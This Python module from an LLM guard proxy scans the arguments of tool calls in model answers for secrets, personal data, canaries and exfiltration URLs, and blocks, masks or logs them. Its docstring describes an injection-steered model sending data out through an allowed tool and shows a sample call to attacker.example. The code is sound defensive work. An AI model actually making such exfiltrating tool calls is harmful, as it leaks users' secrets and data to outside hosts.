"""Tool-call arguments in answers, scanned like the answer's text.

The tool-call policy (:mod:`.tools`) judges which tool an answer calls; this module judges
what it passes. A model steered by an injection can call an allowed tool with a secret, a
customer's personal data, a canary or a URL on a foreign host in its arguments
(``fetch_url(url="https://attacker.example/?q=…")``), and the application, not a reader, acts
on them. So the output scanners that make sense there (those whose class sets
``scans_tool_arguments``: ``secrets``, ``pii``, ``leak``, ``exfiltration``) run on each call's
``function.arguments`` (and a legacy ``function_call.arguments``), with the same actions:

* **block** — the answer is refused like any other block (HTTP 400 or a stream error event);
* **redact** — the arguments go on with the values masked; arguments that are JSON stay
  JSON: each string (keys too) and number is scanned on its own and masked in place, then the
  document is serialised again (a masked number becomes a string). If the masked arguments
  still fail a scan, the answer is blocked;
* **log** — the arguments go on unchanged, the verdict is recorded.

JSON arguments are scanned as the application will read them: the decoded strings and
numbers, one per line (so escapes such as ``\\u0040`` hide nothing). Arguments that are not
JSON, that a decode and re-encode would change (repeated keys, inexact numbers, deep nesting,
keys that mask alike) or that hold more than :data:`MAX_LEAVES` values are scanned, and
masked, as the raw text. Verdicts carry ``location`` (e.g.
``choices[0].message.tool_calls[1].function.arguments``) and ``tool``. An answer without tool
calls costs nothing here.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from drillhall.llm.guard.proxy.engine import Applied, ScanEngine, ScanOutcome
from drillhall.llm.guard.scanners.base import Action, ScanContext

__all__ = ["TOOL_CALL", "ToolCallSlot", "guard_arguments",
           "tool_call_slots", "tool_name"]

TOOL_CALL = "tool call in the answer"
"""What a block refused when a tool call's arguments failed a scan (in its message)."""

_NAME = re.compile(r"[A-Za-z0-9_.:-]{1,64}")
_NOT_JSON = object()


def tool_name(value: Any) -> str:
    """A tool's name as the audit may show it (``""`` when missing or not a plain name: a
    name is model output too)."""
    return value if isinstance(value, str) and _NAME.fullmatch(value) else ""


class _Blocked(Exception):
    def __init__(self, scanner: str) -> None:
        super().__init__(scanner)
        self.scanner = scanner


#: Deeper JSON is scanned as plain text (the walkers below recurse).
MAX_DEPTH = 64
#: JSON arguments with more strings and numbers than this are masked as raw text: masking
#: value by value scans each value again, on the event loop.
MAX_LEAVES = 2000


class _Unfaithful(ValueError):
    """The document would not survive a decode and re-encode unchanged."""


def _pairs(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    # a repeated key would hide all but its last value from the scan
    if len({k for k, _ in pairs}) != len(pairs):
        raise _Unfaithful("repeated key")
    return dict(pairs)


def _float(literal: str) -> float:
    value = float(literal)
    if repr(value) != literal:  # 1.00000000000000000001, 1e400, 1E5 …
        raise _Unfaithful(literal)
    return value


def _int(literal: str) -> int:
    if literal == "-0":
        raise _Unfaithful(literal)
    return int(literal)


def _constant(literal: str) -> Any:
    raise _Unfaithful(literal)  # NaN and Infinity are not JSON


def _depth(doc: Any) -> int:
    """How deeply ``doc`` nests lists and objects (iteratively: no recursion limit)."""
    deepest, stack = 0, [(doc, 0)]
    while stack:
        node, level = stack.pop()
        deepest = max(deepest, level)
        if isinstance(node, dict):
            stack.extend((v, level + 1) for v in node.values())
        elif isinstance(node, list):
            stack.extend((v, level + 1) for v in node)
    return deepest


def _decode(text: str) -> Any:
    """The JSON document, or ``_NOT_JSON`` when the text is not JSON or would not come back
    unchanged from a decode and re-encode (repeated keys, numbers that change, nesting past
    :data:`MAX_DEPTH`): such arguments are scanned, and masked, as plain text."""
    try:
        doc = json.loads(text, object_pairs_hook=_pairs, parse_float=_float,
                         parse_int=_int, parse_constant=_constant)
    except (ValueError, RecursionError):
        return _NOT_JSON
    return doc if _depth(doc) <= MAX_DEPTH else _NOT_JSON


def _decoded_view(text: str) -> str | None:
    """Every string (keys too, a repeated key's every value) and number literal an
    application could read from ``text``, one per line, so escapes such as ``\\u0040`` hide
    nothing; ``None`` when ``text`` is not JSON. Walked without recursion, however deep."""
    try:
        doc = json.loads(text, object_pairs_hook=lambda pairs: [x for kv in pairs for x in kv],
                         parse_float=str, parse_int=str, parse_constant=str)
    except (ValueError, RecursionError):
        return None
    out, stack = [], [doc]
    while stack:
        node = stack.pop()
        if isinstance(node, str):
            out.append(node)
        elif isinstance(node, list):
            stack.extend(reversed(node))
    return "\n".join(out)


def _leaves(doc: Any) -> Iterator[str]:
    """The strings (keys too) and numbers of a JSON document, as text."""
    if isinstance(doc, str):
        yield doc
    elif isinstance(doc, bool) or doc is None:
        return
    elif isinstance(doc, int | float):
        yield str(doc)
    elif isinstance(doc, list):
        for item in doc:
            yield from _leaves(item)
    elif isinstance(doc, dict):
        for key, value in doc.items():
            yield key
            yield from _leaves(value)


def _mapped(doc: Any, fix: Callable[[str], str]) -> Any:
    """``doc`` with every string and number passed through ``fix`` (a number ``fix``
    changes becomes the masked string)."""
    if isinstance(doc, str):
        return fix(doc)
    if isinstance(doc, bool) or doc is None:
        return doc
    if isinstance(doc, int | float):
        text = str(doc)
        fixed = fix(text)
        return doc if fixed == text else fixed
    if isinstance(doc, list):
        return [_mapped(item, fix) for item in doc]
    if isinstance(doc, dict):
        pairs = {fix(key): _mapped(value, fix) for key, value in doc.items()}
        if len(pairs) != len(doc):
            raise _Unfaithful("two keys mask to the same text")
        return pairs
    return doc


def guard_arguments(engine: ScanEngine, arguments: str, context: ScanContext, *, tool: str,
                    location: str) -> ScanOutcome:
    """Scan one tool call's ``arguments`` (see the module docstring);
    :class:`~drillhall.llm.guard.proxy.engine.ScannerFailure` when a scanner raised and the
    guard fails closed."""
    if not engine.argument_scanners or not arguments.strip():
        return ScanOutcome(arguments)
    view = _decoded_view(arguments)
    text = arguments if view is None else view
    if not text.strip():
        return ScanOutcome(arguments)

    def scan(value: str) -> tuple[str, str | None, float, tuple[Applied, ...]]:
        outcome = engine.scan_tool_arguments(value, context, tool=tool, location=location)
        return outcome.text, outcome.blocked_by, outcome.latency_ms, outcome.applied

    masked, blocked_by, ms, applied = scan(text)
    if blocked_by is not None:
        return ScanOutcome(arguments, applied, blocked_by, ms)
    if masked == text:
        return ScanOutcome(arguments, applied, None, ms)
    if view is None:  # plain text: masked as it is
        return ScanOutcome(masked, applied, None, ms)
    spent = [ms]
    redacting = next((a.verdict.scanner for a in applied
                      if a.verdict.flagged and a.action is Action.REDACT), "tool-arguments")
    doc = _decode(arguments)
    # value by value rescans each one: past MAX_LEAVES values, the raw text is masked once
    if doc is not _NOT_JSON and text.count("\n") < MAX_LEAVES:

        def fix(value: str) -> str:
            if not value.strip():
                return value
            out, blocked, took, _ = scan(value)
            spent.append(took)
            if blocked is not None:
                raise _Blocked(blocked)
            return out

        try:
            fixed = _mapped(doc, fix)
        except _Blocked as exc:
            return ScanOutcome(arguments, applied, exc.scanner, sum(spent))
        except _Unfaithful:
            pass  # two keys masked alike: mask the raw text instead
        else:
            again = "\n".join(_leaves(fixed))
            still, blocked, took, _ = scan(again)
            spent.append(took)
            if blocked is not None or still != again:  # masking piece by piece fell short
                return ScanOutcome(arguments, applied, blocked or redacting, sum(spent))
            return ScanOutcome(json.dumps(fixed, ensure_ascii=False), applied, None,
                               sum(spent))
    raw, blocked_raw, took, _ = scan(arguments)
    spent.append(took)
    if blocked_raw is not None:
        return ScanOutcome(arguments, applied, blocked_raw, sum(spent))
    # what the application will decode from the masked text must pass too (an escaped
    # value the raw text's masking could not see blocks the call)
    check = _decoded_view(raw)
    if check is not None:
        still, blocked, took, _ = scan(check)
        spent.append(took)
        if blocked is not None or still != check:
            return ScanOutcome(arguments, applied, blocked or redacting, sum(spent))
    return ScanOutcome(raw, applied, None, sum(spent))


@dataclass(frozen=True, slots=True)
class ToolCallSlot:
    """One tool call's arguments in a complete answer: ``function["arguments"]``."""

    function: dict[str, Any]
    tool: str
    location: str

    @property
    def text(self) -> str:
        """The arguments as text (a gateway that sends an object instead of the JSON string
        OpenAI specifies gets it scanned as JSON text, and written back as a string only if
        the scan changes it)."""
        value = self.function.get("arguments")
        if value is None or isinstance(value, str):
            return value or ""
        return json.dumps(value, ensure_ascii=False)

    def set(self, text: str) -> None:
        self.function["arguments"] = text


def tool_call_slots(data: Any) -> list[ToolCallSlot]:
    """The tool calls' arguments of a (non-streamed) chat completion: each
    ``message.tool_calls[i].function`` and a legacy ``message.function_call``."""
    slots: list[ToolCallSlot] = []
    choices = data.get("choices") if isinstance(data, dict) else None
    for position, choice in enumerate(choices if isinstance(choices, list) else ()):
        message = choice.get("message") if isinstance(choice, dict) else None
        if not isinstance(message, dict):
            continue
        index = choice.get("index", position)
        where = f"choices[{index if isinstance(index, int) else position}].message"
        calls = message.get("tool_calls")
        for i, call in enumerate(calls if isinstance(calls, list) else ()):
            function = call.get("function") if isinstance(call, dict) else None
            if isinstance(function, dict):
                slots.append(ToolCallSlot(function, tool_name(function.get("name")),
                                          f"{where}.tool_calls[{i}].function.arguments"))
        legacy = message.get("function_call")
        if isinstance(legacy, dict):
            slots.append(ToolCallSlot(legacy, tool_name(legacy.get("name")),
                                      f"{where}.function_call.arguments"))
    return slots
